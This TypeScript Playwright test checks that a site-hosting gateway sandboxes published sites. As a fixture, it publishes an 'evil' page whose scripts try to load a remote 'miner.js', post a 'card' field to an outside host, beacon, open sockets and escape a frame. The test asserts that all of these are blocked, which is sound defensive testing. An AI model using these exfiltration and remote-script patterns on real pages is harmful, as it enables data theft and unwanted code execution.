import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Browser, chromium, type Page } from 'playwright-core';
import { until } from '#libs/testing';
import { SitesStage, StubArtifacts } from '../../apps/gateway/src/sites/sites.stage.js';

const CHROMIUM = [
  process.env['CHROMIUM_PATH'],
  '/usr/bin/chromium',
  '/usr/bin/chromium-browser',
  '/usr/bin/google-chrome',
].find((path) => path && existsSync(path));
const QUIET = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-sync'];
const inChromium = CHROMIUM ? describe : describe.skip;

const todo = {
  'index.html': `<!doctype html><title>To do</title><link rel="stylesheet" href="styles.css">
    <form><input name="what"><button>Add</button></form><ul></ul><script type="module" src="app.js"></script>`,
  'styles.css': 'ul { color: rgb(1, 2, 3) }',
  'app.js': `import { add, all } from './api.js';
    const show = () => document.querySelector('ul').replaceChildren(...all().map((text) => Object.assign(document.createElement('li'), { textContent: text })));
    document.querySelector('form').addEventListener('submit', (event) => { event.preventDefault(); add(event.target.what.value); show(); });
    const { first } = await (await fetch('./data.json')).json();
    document.title = first;
    show();`,
  'api.js': `export const all = () => JSON.parse(localStorage.getItem('todo') ?? '[]');
    export const add = (text) => localStorage.setItem('todo', JSON.stringify([...all(), text]));`,
  'data.json': '{"first":"Ready"}',
};

inChromium('a site, in a browser', () => {
  const artifacts = new StubArtifacts();
  const servers: Server[] = [];
  let browser: Browser;
  let stage: SitesStage;
  let page: Page;
  /** Answers everything, and counts who asks. */
  let elsewhere: { url: string; asked: string[]; body: string };

  const serve = async () => {
    const place = { url: '', asked: [] as string[], body: '' };
    const server = createServer((request, response) => {
      place.asked.push(request.url!);
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('content-type', request.url!.endsWith('.js') ? 'text/javascript' : 'text/html');
      response.end(place.body);
    });
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    place.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    return place;
  };
  const at = (path: string) => `http://127.0.0.1:${stage.door.port}${path}`;

  beforeAll(async () => {
    elsewhere = await serve();
    stage = await SitesStage.open(await artifacts.start(), { CONSOLE_URL: `${elsewhere.url}/console` });
    artifacts.publish('todo', todo);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: QUIET });
  });
  beforeEach(async () => {
    page = await (await browser.newContext()).newPage();
    elsewhere.asked.length = 0;
  });
  afterEach(() => page.context().close());
  afterAll(async () => {
    await browser?.close();
    await stage?.close();
    await artifacts.stop();
    servers.forEach((server) => server.close());
  });

  it('works: modules, style, data of its own, and what it keeps is there the next time', async () => {
    const complaints: string[] = [];
    page.on('pageerror', (error) => complaints.push(error.message));
    await page.goto(at('/sites/todo'));
    await page.waitForFunction(`document.title === 'Ready'`);
    await page.fill('input', 'bread');
    await page.click('button');
    await page.reload();
    await page.waitForSelector('li');
    expect(await page.textContent('li')).toBe('bread');
    expect(await page.evaluate(`getComputedStyle(document.querySelector('ul')).color`)).toBe('rgb(1, 2, 3)');
    expect(complaints).toEqual([]);
  });

  it('speaks to nobody else, runs nothing that it did not bring, and leaves nothing behind', async () => {
    artifacts.publish('evil', {
      'index.html': `<!doctype html><title>x</title><script>document.title = 'inline'</script>
        <img src="${elsewhere.url}/pixel"><script src="${elsewhere.url}/miner.js"></script>
        <link rel="stylesheet" href="${elsewhere.url}/a.css"><iframe src="${elsewhere.url}/frame"></iframe>
        <form action="${elsewhere.url}/form" method="post"><input name="card" value="1"></form><script src="evil.js"></script>`,
      'evil.js': `(async () => {
        const tried = await Promise.allSettled([
          fetch('${elsewhere.url}/fetch'), navigator.serviceWorker.register('worker.js'), import('${elsewhere.url}/module.js'),
          new Promise((ok, no) => { const s = new WebSocket('${elsewhere.url.replace('http', 'ws')}/socket'); s.onopen = ok; s.onerror = no; }),
        ]);
        try { new Function('1')(); tried.push({ status: 'fulfilled' }) } catch { tried.push({ status: 'rejected' }) }
        navigator.sendBeacon('${elsewhere.url}/beacon', 'x');
        document.body.dataset.tried = [document.title, ...tried.map(({ status }) => status)].join();
        setTimeout(() => document.forms[0].submit(), 100);
      })();`,
      'worker.js': 'self.addEventListener("fetch", () => {})',
    });
    await page.goto(at('/sites/evil/'));
    await page.waitForSelector('body[data-tried]');
    expect(await page.getAttribute('body', 'data-tried')).toBe('x,rejected,rejected,rejected,rejected,rejected');
    await sleep(500); // the form, too, goes nowhere
    expect(await page.context().cookies()).toEqual([]);
    expect(elsewhere.asked).toEqual([]);
  });

  it('is shown in a frame of the console, whose window it cannot move, and in nobody else’s', async () => {
    artifacts.publish('mover', {
      'index.html': '<!doctype html><title>x</title><p>here</p><script src="move.js"></script>',
      'move.js': `try { top.location = 'about:blank#moved' } catch { document.body.append('stayed') }`,
    });
    const frame = `<!doctype html><iframe src="${at('/sites/mover/')}"></iframe>`;
    elsewhere.body = frame;
    await page.goto(`${elsewhere.url}/console/builds/1`);
    const shown = page.frameLocator('iframe');
    await until(async () => (await shown.locator('body').innerText()).includes('stayed'));
    expect(page.url()).toBe(`${elsewhere.url}/console/builds/1`);
    const other = await serve();
    other.body = frame;
    await page.goto(`${other.url}/`);
    await until(() => page.frames().some((one) => one.url().startsWith('chrome-error:')));
  });
});
